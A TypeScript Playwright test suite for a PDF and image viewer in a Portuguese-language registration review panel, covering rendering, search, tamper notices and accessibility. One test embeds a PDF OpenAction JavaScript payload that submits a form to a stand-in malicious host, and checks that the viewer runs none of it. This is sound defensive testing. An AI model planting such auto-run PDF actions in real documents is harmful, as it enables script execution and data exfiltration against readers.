import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { sendCadastro } from '@painel-pj/test-bed/intake';
import { buildPdfPages, writePdf } from '@painel-pj/test-bed/pdf-pages';
import { fortyMegapixels, takePhoto } from '@painel-pj/test-bed/photo';
import { buildPdf } from '@painel-pj/test-bed/registrations';
import { startServer } from '@painel-pj/test-bed/server';
import { expect, type Page } from '@playwright/test';
import { expectFits, expectNoViolations } from '../support/accessibility.ts';
import { company } from '../support/cadastro-list.ts';
import { startSpecProvider } from '../support/spec-provider.ts';
import { holdSession } from '../support/staff-screens.ts';
import { test } from '../support/test.ts';

let number = 880_000;
const nextNumber = () => number++ + Number(process.env.TEST_WORKER_INDEX ?? 0) * 1000;

const pageInfo = (page: Page, text: string) => page.getByText(`PDF · ${text}`, { exact: true });
const tab = (page: Page, name: string) => page.getByRole('tab', { name, exact: true });

/** Whatever the page was kept from doing by its own policy. */
async function watchPolicy(page: Page): Promise<string[]> {
  const broken: string[] = [];
  await page.exposeFunction('tellBroken', (what: string) => broken.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      (globalThis as unknown as { tellBroken: (what: string) => void }).tellBroken(
        `${violatedDirective} ${blockedURI}`,
      ),
    );
  });
  return broken;
}

test.beforeEach(async ({ page, adminToken }) => holdSession(page, adminToken));

/** In the place of a document; it is announced, too. */
const notice = (page: Page, title: string) =>
  page.getByRole('tabpanel', { name: 'Documento' }).getByText(title);

test('a hundred pages are read, found in and saved without leaving the case', async ({ page, server }) => {
  const broken = await watchPolicy(page);
  const id = await sendCadastro(server, nextNumber(), {
    contratoSocial: buildPdfPages(100, { scanned: 60 }),
  });
  await page.goto(`/analise/${id}`);
  await expect(pageInfo(page, 'página 1 de 100')).toBeVisible();
  await expect(page.getByText('Cláusula 1.1:', { exact: false }).first()).toBeAttached();

  await page.getByRole('region', { name: 'Contrato Social', exact: true }).focus();
  await page.keyboard.press('End');
  await expect(pageInfo(page, 'página 100 de 100')).toBeVisible();
  await expect.poll(() => page.locator('[data-page-number] canvas').count()).toBeLessThanOrEqual(10);

  await page.keyboard.press('Control+f');
  await page.keyboard.type('clausula 57.3:');
  await expect(page.getByText('1 de 1', { exact: true })).toBeVisible();
  await expect(pageInfo(page, 'página 57 de 100')).toBeVisible();
  await page.keyboard.press('Escape');

  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Baixar', exact: true }).click(),
  ]);
  expect(saved.suggestedFilename()).toMatch(/^Loja \d+ - Contrato Social\.pdf$/);
  expect(broken).toEqual([]);
});

test('text of a document is selected and copied', async ({ page, context, server }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const id = await sendCadastro(server, nextNumber(), { contratoSocial: buildPdfPages(1) });
  await page.goto(`/analise/${id}`);
  const line = page.locator('.textLayer span').filter({ hasText: /\w{6}/ }).first();
  const box = await line.boundingBox();
  if (!box) throw new Error('the line is not on the screen');
  await page.mouse.move(box.x + 1, box.y + box.height / 2);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width - 1, box.y + box.height / 2, { steps: 5 });
  await page.mouse.up();
  const selected = await page.evaluate(() => String(getSelection()));
  expect(selected.length).toBeGreaterThan(5);
  expect(await line.textContent()).toContain(selected);
  await page.keyboard.press('Control+c');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(selected);
});

test('a page scanned as a fax is drawn without WebAssembly', async ({ page, server }) => {
  const broken = await watchPolicy(page);
  const content = '400 0 0 600 0 0 cm /I1 Do';
  const fax = writePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 600] /Resources << /XObject << /I1 5 0 R >> >> /Contents 4 0 R >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      `<< /Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray /BitsPerComponent 1
/Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 16 /Rows 16 >>] /Length 15 >>
stream\n26A0BFFFFFFFE0>\nendstream`,
    ],
    '',
  );
  const id = await sendCadastro(server, nextNumber(), { contratoSocial: Buffer.from(fax, 'latin1') });
  await page.goto(`/analise/${id}`);
  const canvas = page.locator('[data-page-number="1"] canvas');
  const middle = () =>
    canvas.evaluate((element: HTMLCanvasElement) => {
      const { width, height } = element;
      const copy = new OffscreenCanvas(width, height).getContext('2d');
      copy?.drawImage(element, 0, 0);
      return copy?.getImageData(width / 2, height / 2, 1, 1).data[0];
    });
  await expect.poll(middle).toBe(0);
  expect(broken).toEqual([]);
});

test('a document that can not be shown says why', async ({ page, server }) => {
  const id = await sendCadastro(server, nextNumber(), {
    contratoSocial: buildPdfPages(2, { isLocked: true }),
    procuracao: buildPdf('procuração'),
  });
  await page.goto(`/analise/${id}`);
  await tab(page, 'Contrato Social').click();
  await expect(notice(page, 'Este PDF pede senha')).toBeVisible();
  await page.route('**/arquivos/*.pdf', (route) =>
    route.fulfill({ contentType: 'application/pdf', body: '%PDF-1.4\nnada\n%%EOF\n' }),
  );
  await tab(page, 'Procuração').click();
  await expect(notice(page, 'Este PDF não abre')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Abrir em nova aba' })).toBeVisible();
});

test('a file exchanged where it is kept is not shown, and the case says so', async ({ page, server }) => {
  const id = await sendCadastro(server, nextNumber(), { contratoSocial: buildPdfPages(1) });
  await page.goto(`/analise/${id}`);
  const asked = page.waitForRequest('**/arquivos/*.pdf');
  await expect(pageInfo(page, 'página 1 de 1')).toBeVisible();
  const documento = new URL((await asked).url()).pathname.split('.').at(-2) ?? '';
  const folder = path.join(server.dataDir, 'documentos', documento.charAt(0), documento.charAt(1));
  await writeFile(path.join(folder, documento), buildPdfPages(2));

  await page.reload();
  await expect(notice(page, 'O arquivo guardado não é o que foi recebido')).toBeVisible();
  await expect(page.getByText('foi trocado ou danificado').first()).toBeVisible();
  await page.keyboard.press('c');
  await expect(page.getByText('Contrato Social não foi marcado')).toBeVisible();
});

test('nothing inside a document runs', async ({ page, server }) => {
  const catalogue =
    '/OpenAction << /S /JavaScript /JS (app.alert\\("aberto"\\); this.submitForm\\("https://mal.exemplo/"\\)) >>';
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).hostname));
  page.on('dialog', (dialog) => asked.push(dialog.message()));
  const id = await sendCadastro(server, nextNumber(), { contratoSocial: buildPdfPages(1, { catalogue }) });
  await page.goto(`/analise/${id}`);
  await expect(page.locator('[data-page-number="1"] canvas')).toBeVisible();
  await expect(
    page.getByRole('region', { name: 'Contrato Social', exact: true }).getByRole('link'),
  ).toHaveCount(0);
  expect(new Set(asked)).toEqual(new Set(['127.0.0.1']));
});

test('a photo of forty megapixels is shown, zoomed and turned', async ({ page, server }) => {
  const broken = await watchPolicy(page);
  await page.goto('/login');
  const photo = await takePhoto(page, fortyMegapixels);
  const id = await sendCadastro(server, nextNumber(), { fotoFachada: photo });
  await page.goto(`/analise/${id}`);
  const picture = page.getByRole('img', { name: 'Foto da Fachada' });
  await expect(page.getByText('Imagem · 7300 × 5470')).toBeVisible();
  const shape = async () => {
    const box = await picture.boundingBox();
    return box ? { isWide: box.width > box.height, width: box.width } : null;
  };
  const fitted = await shape();
  expect(fitted?.isWide).toBe(true);
  await page.keyboard.press('+');
  await expect.poll(async () => (await shape())?.width).toBeGreaterThan((fitted?.width ?? 0) * 1.2);
  await page.keyboard.press('g');
  await expect.poll(async () => (await shape())?.isWide).toBe(false);
  expect(broken).toEqual([]);
});

test('a lost connection is told, and the document comes with it', async ({ page, server }) => {
  const id = await sendCadastro(server, nextNumber(), { contratoSocial: buildPdfPages(1) });
  await page.route('**/arquivos/*.pdf', (route) => route.abort('internetdisconnected'));
  await page.goto(`/analise/${id}`);
  await expect(notice(page, 'Sem conexão com os arquivos')).toBeVisible();
  await page.unroute('**/arquivos/*.pdf');
  await page.getByRole('button', { name: 'Tentar de novo' }).click();
  await expect(pageInfo(page, 'página 1 de 1')).toBeVisible();
});

test('documents are accessible, two side by side and on a phone', async ({ page, server }) => {
  await page.goto('/login');
  const id = await sendCadastro(server, nextNumber(), {
    contratoSocial: buildPdfPages(3),
    rgFrente: await takePhoto(page, { width: 900, height: 600 }),
  });
  await page.setViewportSize({ width: 1920, height: 1000 });
  await page.goto(`/analise/${id}`);
  await expect(page.locator('[data-page-number="1"] canvas')).toBeVisible();
  await page.getByRole('button', { name: 'Dois documentos lado a lado' }).click();
  await expect(page.getByText('Imagem · 900 × 600')).toBeVisible();
  await page.keyboard.press('Control+f');
  await expectNoViolations(page);
  await page.setViewportSize({ width: 390, height: 800 });
  await page.getByRole('tab', { name: /^Documentos/ }).click();
  await expect(page.locator('[data-page-number="1"] canvas')).toBeVisible();
  await expectNoViolations(page);
  await expectFits(page);
});

test('files of a host that lets nobody read them are shown as far as that goes', async ({ page }) => {
  const onePixel = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const files = createServer((request, response) =>
    response.end(request.url?.endsWith('.pdf') ? buildPdfPages(1) : onePixel),
  );
  await new Promise<void>((ready) => {
    files.listen(0, '127.0.0.1', ready);
  });
  const { port } = files.address() as AddressInfo;
  const provider = await startSpecProvider();
  provider.cadastros.push(
    company(1, { documentos: { contratoSocial: 'contrato.pdf', fotoFachada: 'fachada.png' } }),
  );
  const server = await startServer({
    HOST_API: provider.url,
    HOST_ARQUIVOS: `http://127.0.0.1:${port}`,
    DEMO: 'nao',
  });
  try {
    await page.goto(`${server.url}/analise/1`);
    await expect(notice(page, 'Este PDF só abre em nova aba')).toBeVisible();
    await tab(page, 'Foto da Fachada').click();
    await expect(page.getByText('Imagem · 1 × 1')).toBeVisible();
  } finally {
    await server.stop();
    provider.stop();
    files.close();
  }
});
